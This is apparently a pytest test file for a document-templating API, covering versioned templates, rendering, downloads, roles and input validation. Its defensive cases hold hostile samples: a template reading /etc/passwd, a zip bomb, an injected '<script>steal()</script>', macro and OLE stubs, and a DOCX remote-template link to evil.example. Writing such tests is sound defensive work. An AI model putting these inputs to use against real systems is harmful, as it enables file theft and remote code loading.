"""The HTTP journey: templates (versioned), preview, single render, download, deletion; bad
input answers a clear 4xx; roles; audit rows."""

from __future__ import annotations

import io
from typing import Any

from documents_helpers import SPIN, b64, docx_text, docx_with, pdf_text_of, zip_bomb
from litestar import Litestar
from litestar.testing import TestClient
from pypdf import PdfReader

from backplane.testing import SeededTenant, audit_trail

TEMPLATES = "/api/documents/templates"
DOCUMENTS = "/api/documents/documents"
HELLO = "#let d = json(bytes(sys.inputs.data))\nHello #d.name"
FIELDS = [{"name": "name", "max_length": 50, "example": "Example"}]


def make(client: TestClient[Litestar], **changes: Any) -> dict[str, Any]:
    body = {"name": "hello", "source": HELLO, "fields": FIELDS, **changes}
    created = client.post(TEMPLATES, json=body)
    assert created.status_code == 201, created.text
    result: dict[str, Any] = created.json()
    return result


def test_the_journey(
    backplane_client: TestClient[Litestar], backplane_tenant: SeededTenant
) -> None:
    client = backplane_client
    template = make(client, description="greets")
    assert template["engine"] == "typst"
    assert template["current_version"] == 1
    assert template["fields"][0]["name"] == "name"
    assert [t["id"] for t in client.get(TEMPLATES).json()] == [template["id"]]
    url = f"{TEMPLATES}/{template['id']}"

    first = client.post(f"{url}/render", json={"fields": {"name": "Ada"}, "name": "for Ada"})
    assert first.status_code == 201, first.text
    document = first.json()
    assert (document["version"], document["pages"], document["name"]) == (1, 1, "for Ada.pdf")

    # editing makes version 2, which becomes current; version 1 is still there and renderable
    edited = client.put(url, json={"source": HELLO.replace("Hello", "Goodbye")})
    assert edited.status_code == 200, edited.text
    assert edited.json()["current_version"] == 2
    versions = client.get(f"{url}/versions").json()
    assert [v["number"] for v in versions] == [1, 2]
    assert client.get(f"{url}/versions/1").json()["source"] == HELLO
    second = client.post(f"{url}/render", json={"fields": {"name": "Bob"}}).json()
    old = client.post(f"{url}/render", json={"fields": {"name": "Cy"}, "version": 1}).json()
    assert (second["version"], old["version"]) == (2, 1)

    texts = {}
    for made in (document, second, old):
        content = client.get(made["download_url"])
        assert content.status_code == 200
        assert content.headers["content-type"] == "application/pdf"
        assert "attachment" in content.headers["content-disposition"]
        assert len(content.content) == made["size"]
        texts[made["id"]] = pdf_text_of(content.content)
        assert len(PdfReader(io.BytesIO(content.content)).pages) == made["pages"]
    assert "Hello Ada" in texts[document["id"]]
    assert "Goodbye Bob" in texts[second["id"]]
    assert "Hello Cy" in texts[old["id"]]

    # the stored file is a kernel file of the tenant
    stored = client.get(f"/api/files/{document['file_id']}")
    assert stored.status_code == 200, stored.text
    assert stored.json()["sha256"] == document["sha256"]

    listed = client.get(DOCUMENTS, params={"template_id": template["id"]}).json()
    assert {d["id"] for d in listed} == {document["id"], second["id"], old["id"]}
    assert client.get(f"{DOCUMENTS}/{document['id']}").json() == document

    assert client.delete(f"{DOCUMENTS}/{document['id']}").status_code == 204
    assert client.get(f"{DOCUMENTS}/{document['id']}").status_code == 404
    assert client.get(f"/api/files/{document['file_id']}").status_code == 404

    assert client.delete(url).status_code == 204
    assert client.get(url).status_code == 404
    assert client.get(DOCUMENTS).json() == []
    assert client.get(f"/api/files/{second['file_id']}").status_code == 404

    actions = [entry.action for entry in audit_trail(client, backplane_tenant)]
    for action in (
        "documents.template_created",
        "documents.template_updated",
        "documents.document_deleted",
        "documents.template_deleted",
    ):
        assert action in actions


def test_preview_renders_without_storing_or_metering(
    backplane_client: TestClient[Litestar],
) -> None:
    client = backplane_client
    template = make(client)
    preview = client.post(f"{TEMPLATES}/{template['id']}/preview", json={})
    assert preview.status_code == 200, preview.text
    assert preview.headers["content-type"] == "image/png"
    assert preview.content.startswith(b"\x89PNG")
    html = make(client, name="page", engine="html", source="<p>{{ name }}</p>")
    page = client.post(f"{TEMPLATES}/{html['id']}/preview", json={"fields": {"name": "<i>"}})
    assert page.text == "<p>&lt;i&gt;</p>"
    assert client.get(DOCUMENTS).json() == []
    assert client.get("/api/files").json() == []


def test_a_docx_template_round_trip(backplane_client: TestClient[Litestar]) -> None:
    client = backplane_client
    template = make(
        client,
        name="letter",
        engine="docx",
        source=None,
        source_base64=b64(docx_with("Dear {{ name }},")),
    )
    made = client.post(f"{TEMPLATES}/{template['id']}/render", json={"fields": {"name": "Ada"}})
    assert made.status_code == 201, made.text
    content = client.get(made.json()["download_url"])
    assert docx_text(content.content) == "Dear Ada,"
    assert client.get(f"{TEMPLATES}/{template['id']}/versions/1").json()["source"] is None


BAD_TEMPLATES: list[tuple[dict[str, Any], int, str]] = [
    ({"name": "x", "engine": "latex", "source": "x"}, 400, "engine"),
    ({"name": "x"}, 400, "sent as `source`"),
    ({"name": "x", "engine": "docx", "source": "text"}, 400, "source_base64"),
    ({"name": "x", "engine": "docx", "source_base64": "***"}, 400, "not valid base64"),
    ({"name": "x", "engine": "docx", "source_base64": b64(b"text")}, 400, "ZIP"),
    (
        {"name": "x", "engine": "docx", "source_base64": b64(zip_bomb(30_000_000))},
        400,
        "unpacks",
    ),
    ({"name": "x", "engine": "html", "source": "{% for %}"}, 400, "template error"),
    ({"name": "x", "source": "  "}, 400, "empty"),
    ({"name": "x", "source": "x" * 3_000_000}, 413, "max_template_bytes"),
    ({"name": "x", "source": "x", "fields": [{"name": "a", "type": "money"}]}, 400, "schema"),
    ({"name": "", "source": "x"}, 400, "name"),
    ({"name": "x", "source": "x", "owner": "me"}, 400, "owner"),
]


def test_bad_templates_are_refused(backplane_client: TestClient[Litestar]) -> None:
    # one app for every case: each answer names what is wrong, and nothing is kept
    for body, status, message in BAD_TEMPLATES:
        answer = backplane_client.post(TEMPLATES, json=body)
        assert answer.status_code == status, (body.get("engine"), answer.text)
        assert message in answer.text, (message, answer.text)
    assert backplane_client.get(TEMPLATES).json() == []


def test_a_taken_name_is_a_conflict(backplane_client: TestClient[Litestar]) -> None:
    make(backplane_client)
    again = backplane_client.post(TEMPLATES, json={"name": "hello", "source": "x"})
    assert again.status_code == 409
    assert "exists already" in again.text


def test_bad_renders_answer_4xx_and_store_nothing(backplane_client: TestClient[Litestar]) -> None:
    client = backplane_client
    url = f"{TEMPLATES}/{make(client)['id']}"
    cases = [
        ({"fields": {}}, 400, "name"),
        ({"fields": {"name": "x" * 51}}, 400, "$.name"),
        ({"fields": {"name": "Ada", "extra": 1}}, 400, "extra"),
        ({"fields": {"name": "Ada"}, "version": 7}, 404, "no version 7"),
        ({"fields": "Ada"}, 400, ""),
    ]
    for body, status, message in cases:
        answer = client.post(f"{url}/render", json=body)
        assert answer.status_code == status, (body, answer.text)
        assert message in answer.text
    broken = make(client, name="broken", source='#read("/etc/passwd")', fields=[])
    answer = client.post(f"{TEMPLATES}/{broken['id']}/render", json={})
    assert answer.status_code == 422
    assert answer.json()["kind"] == "template"
    assert "not found" in answer.json()["detail"]
    unknown = "00000000-0000-0000-0000-000000000001"
    assert client.post(f"{TEMPLATES}/{unknown}/render", json={}).status_code == 404
    assert client.get(DOCUMENTS).json() == []
    assert client.get("/api/files").json() == []


def test_a_template_hitting_the_time_limit_is_a_422(
    backplane_client: TestClient[Litestar],
) -> None:
    template = make(backplane_client, source=SPIN, fields=[])
    answer = backplane_client.post(f"{TEMPLATES}/{template['id']}/render", json={})
    assert answer.status_code == 422
    assert answer.json()["kind"] == "limit"
    assert "documents.render_timeout_s" in answer.json()["detail"]


def test_roles(backplane_client: TestClient[Litestar], backplane_client_as: Any) -> None:
    template = make(backplane_client)
    url = f"{TEMPLATES}/{template['id']}"
    viewer, member = backplane_client_as("viewer"), backplane_client_as("member")
    assert viewer.get(TEMPLATES).status_code == 200
    assert viewer.get(url).status_code == 200
    refused = viewer.post(f"{url}/render", json={"fields": {"name": "x"}})
    assert refused.status_code == 403
    assert "documents.write" in refused.text
    assert viewer.post(TEMPLATES, json={"name": "v", "source": "x"}).status_code == 403
    made = member.post(f"{url}/render", json={"fields": {"name": "x"}})
    assert made.status_code == 201
    assert viewer.get(made.json()["download_url"]).status_code == 200
    assert member.put(url, json={"source": "#1"}).status_code == 200
    denied = member.delete(url)
    assert denied.status_code == 403
    assert "documents.admin" in denied.text
    assert backplane_client.delete(url).status_code == 204


def test_anonymous_requests_are_refused(backplane_anonymous_client: TestClient[Litestar]) -> None:
    client = backplane_anonymous_client
    assert client.get(TEMPLATES).status_code == 401
    assert client.post(TEMPLATES, json={"name": "x", "source": "x"}).status_code == 401
    assert client.get(DOCUMENTS).status_code == 401


def test_pages_of_lists(backplane_client: TestClient[Litestar]) -> None:
    ids = [make(backplane_client, name=f"t{n}")["id"] for n in range(3)]
    first = backplane_client.get(TEMPLATES, params={"limit": 2}).json()
    assert [t["id"] for t in first] == ids[:2]
    rest = backplane_client.get(TEMPLATES, params={"limit": 2, "after": ids[1]}).json()
    assert [t["id"] for t in rest] == ids[2:]
    assert backplane_client.get(TEMPLATES, params={"limit": 0}).status_code == 400


def test_served_documents_cannot_run_scripts(backplane_client: TestClient[Litestar]) -> None:
    client = backplane_client
    page = make(client, name="page", engine="html", source="<script>steal()</script>{{ name }}")
    url = f"{TEMPLATES}/{page['id']}"
    served = [
        client.post(f"{url}/preview", json={"fields": {"name": "x"}}),
        client.get(
            client.post(f"{url}/render", json={"fields": {"name": "x"}}).json()["download_url"]
        ),
    ]
    for answer in served:
        assert answer.status_code == 200
        policy = answer.headers["content-security-policy"]
        assert "sandbox" in policy
        assert "default-src 'none'" in policy
        assert answer.headers["x-content-type-options"] == "nosniff"


def docx_variant(extra: dict[str, bytes], replace: dict[str, bytes] | None = None) -> str:
    """The letter-like .docx with parts added (or replaced), as base64."""
    import zipfile

    source = io.BytesIO(docx_with("Dear {{ name }},"))
    out = io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(out, "w") as new:
        for item in old.infolist():
            data = (replace or {}).get(item.filename, old.read(item.filename))
            new.writestr(item, data)
        for name, data in extra.items():
            new.writestr(name, data)
    return b64(out.getvalue())


EXTERNAL_TEMPLATE = (
    b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
    b'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
    b'TargetMode="External"/></Relationships>'
)
EXTERNAL_LINK = EXTERNAL_TEMPLATE.replace(b"attachedTemplate", b"hyperlink")


ACTIVE_PARTS: list[tuple[dict[str, bytes], str]] = [
    ({"word/vbaProject.bin": b"macro"}, "active content"),
    ({"word/activeX/activeX1.xml": b"<x/>"}, "active content"),
    ({"word/embeddings/oleObject1.bin": b"ole"}, "active content"),
    ({"word/_rels/settings.xml.rels": EXTERNAL_TEMPLATE}, "external resource"),
]


def test_docx_templates_with_code_or_remote_parts_are_refused(
    backplane_client: TestClient[Litestar],
) -> None:
    for extra, message in ACTIVE_PARTS:
        body = {"name": "x", "engine": "docx", "source_base64": docx_variant(extra), "fields": []}
        answer = backplane_client.post(TEMPLATES, json=body)
        assert answer.status_code == 400, answer.text
        assert message in answer.text, (message, answer.text)


def test_docx_hyperlinks_are_fine(backplane_client: TestClient[Litestar]) -> None:
    source = docx_variant({"word/_rels/settings.xml.rels": EXTERNAL_LINK})
    answer = backplane_client.post(
        TEMPLATES,
        json={"name": "x", "engine": "docx", "source_base64": source, "fields": [{"name": "name"}]},
    )
    assert answer.status_code == 201, answer.text
